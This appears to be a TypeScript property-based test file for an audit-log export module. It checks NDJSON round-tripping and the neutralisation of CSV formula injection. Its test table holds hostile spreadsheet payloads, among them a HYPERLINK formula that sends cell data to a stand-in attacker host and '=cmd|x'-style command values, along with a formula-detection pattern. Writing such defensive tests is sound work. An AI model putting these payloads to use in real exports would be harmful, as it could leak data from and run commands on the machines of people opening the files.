import fc from 'fast-check';
import { exportHeader, exportLines } from './audit-export.format';
import { type ExportRow } from './audit-query.sql';
import { parseCsv } from '../../../test/support/csv';

// No single quote: a neutralised cell is read back by taking out the quotes the export put in (see restore()).
const text = fc.string({ unit: 'binary', maxLength: 40 }).filter((s) => !s.includes('\u0000') && !s.includes("'"));
const json = fc
  .jsonValue()
  .map((v) => JSON.stringify(v))
  .filter((s) => !s.includes("'"));
const row: fc.Arbitrary<ExportRow> = fc.record({
  id: fc.uuid(),
  occurred_at: fc.constant('2026-11-28T09:00:00.000Z'),
  action: text,
  entity_type: fc.option(text),
  entity_id: fc.option(text),
  user_id: fc.option(text),
  outcome: fc.constantFrom('success', 'failure'),
  ip: fc.option(text),
  user_agent: fc.option(text),
  request_id: fc.option(text),
  changes: fc.option(json),
  metadata: fc.option(json),
  recorded_at: fc.constant('2026-11-28T09:00:00.001Z'),
});

describe('export formats', () => {
  it('NDJSON: one line per row that parses back to the row, JSON columns embedded as JSON', () => {
    fc.assert(
      fc.property(fc.array(row, { maxLength: 5 }), (rows) => {
        const lines = exportLines('ndjson', rows).split('\n');
        expect(lines.pop()).toBe('');
        expect(lines.map((line) => JSON.parse(line) as unknown)).toEqual(
          rows.map((r) => ({
            id: r.id,
            occurredAt: r.occurred_at,
            action: r.action,
            entityType: r.entity_type,
            entityId: r.entity_id,
            userId: r.user_id,
            outcome: r.outcome,
            ip: r.ip,
            userAgent: r.user_agent,
            requestId: r.request_id,
            changes: r.changes === null ? null : (JSON.parse(r.changes) as unknown),
            metadata: r.metadata === null ? null : (JSON.parse(r.metadata) as unknown),
            recordedAt: r.recorded_at,
            erasedBy: null,
          })),
        );
      }),
    );
  });

  it('CSV: a header, then records that parse back to the row text (null and empty text told apart)', () => {
    fc.assert(
      fc.property(fc.array(row, { maxLength: 5 }), (rows) => {
        const csv = exportHeader('csv') + exportLines('csv', rows);
        const [header, ...records] = parseCsv(csv);
        expect(header[10]).toBe('changes');
        const columns = [
          'id',
          'occurred_at',
          'action',
          'entity_type',
          'entity_id',
          'user_id',
          'outcome',
          'ip',
          'user_agent',
          'request_id',
          'changes',
          'metadata',
          'recorded_at',
          'erased_by',
        ] as const;
        expect(records.map((record) => record.map(restore))).toEqual(rows.map((r) => columns.map((c) => r[c] ?? '')));
        for (const r of rows) if (r.user_agent === '') expect(csv).toContain('""');
      }),
    );
  });

  it('CSV: no cell, nor any part of one after a line break, tab or semicolon, starts a formula', () => {
    const trigger = fc.constantFrom('=', '+', '-', '@', '\uff1d', '\uff0b', '\uff0d', '\uff20');
    const blank = fc.string({ unit: fc.constantFrom(' ', '\t', '\r', '\n', '\u0000', '\u00a0', '\u3000'), maxLength: 3 });
    const boundary = fc.constantFrom('', ';', '\r\n', '\n', '\r', '\t', 'x;', 'x\n');
    const hostile = fc.tuple(boundary, blank, trigger, text).map((parts) => parts.join(''));
    const cell = fc.oneof(
      text,
      hostile,
      fc.tuple(text, hostile).map(([a, b]) => a + b),
    );
    fc.assert(
      fc.property(fc.array(cell, { minLength: 1, maxLength: 13 }), (values) => {
        const hostileRow = Object.fromEntries(COLUMNS.map((c, i) => [c, values[i % values.length]])) as ExportRow;
        const [record] = parseCsv(exportLines('csv', [hostileRow]));
        for (const value of record) {
          // eslint-disable-next-line no-control-regex -- control characters are what a spreadsheet trims or splits on
          expect(value).not.toMatch(/^[\u0000\t\r\n]/);
          for (const part of value.split(/[\r\n\t;]/)) expect(part).not.toMatch(FORMULA_START);
        }
        expect(record.map(restore)).toEqual(COLUMNS.map((c) => hostileRow[c]));
      }),
    );
  });

  it.each([
    ['=HYPERLINK("http://evil.example/?"&A1,"Click")', `"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`],
    ['+1+1', `"'+1+1"`],
    ['-2+3', `"'-2+3"`],
    ['@SUM(A1:A9)', `"'@SUM(A1:A9)"`],
    ['\t=1', `"'\t'=1"`],
    ['\r=1', `"'\r'=1"`],
    ['\tplain', `"'\tplain"`],
    ['  =1', `"'  =1"`],
    ['\uff1dcmd', `"'\uff1dcmd"`],
    ['Mozilla/5.0;=cmd|x', `"Mozilla/5.0;'=cmd|x"`],
    ['ok\r\n@x', `"ok\r\n'@x"`],
    ['-5', `"'-5"`],
    ['a-b; c=d, e+f', `"a-b; c=d, e+f"`],
    ['Mozilla/5.0 (X11; Linux x86_64)', 'Mozilla/5.0 (X11; Linux x86_64)'],
  ])('CSV: %j is written as %s', (value, cell) => {
    const line = exportLines('csv', [{ ...SAFE_ROW, user_agent: value }]);
    expect(line.split(',').slice(8).join(',')).toMatch(new RegExp(`^${escapeRegExp(cell)},`));
  });
});

const COLUMNS = [
  'id',
  'occurred_at',
  'action',
  'entity_type',
  'entity_id',
  'user_id',
  'outcome',
  'ip',
  'user_agent',
  'request_id',
  'changes',
  'metadata',
  'recorded_at',
  'erased_by',
] as const;

const SAFE_ROW: ExportRow = {
  id: '00000000-0000-7000-8000-000000000001',
  occurred_at: '2026-11-28T09:00:00.000Z',
  action: 'nda_updated',
  entity_type: 'NDA',
  entity_id: '42',
  user_id: 'u',
  outcome: 'success',
  ip: '10.0.0.1',
  user_agent: null,
  request_id: null,
  changes: null,
  metadata: null,
  recorded_at: '2026-11-28T09:00:00.001Z',
};

/** What a spreadsheet would start a formula with, after any blanks. */
// eslint-disable-next-line no-control-regex -- control characters are what a spreadsheet trims or splits on
const FORMULA_START = /^[\s\u0000-\u001f\u007f]*[=+\-@\uff1d\uff0b\uff0d\uff20]/;

/** The value a neutralised cell was made from: the quotes put before a formula taken out again. */
function restore(cell: string): string {
  // eslint-disable-next-line no-control-regex -- control characters are what a spreadsheet trims or splits on
  return cell.replace(/(^|[\r\n\t;])'(?=(?:(?![\r\n\t;])[\s\u0000-\u001f\u007f])*[=+\-@\uff1d\uff0b\uff0d\uff20]|[\u0000\t\r\n])/g, '$1');
}

function escapeRegExp(text: string): string {
  return text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
}
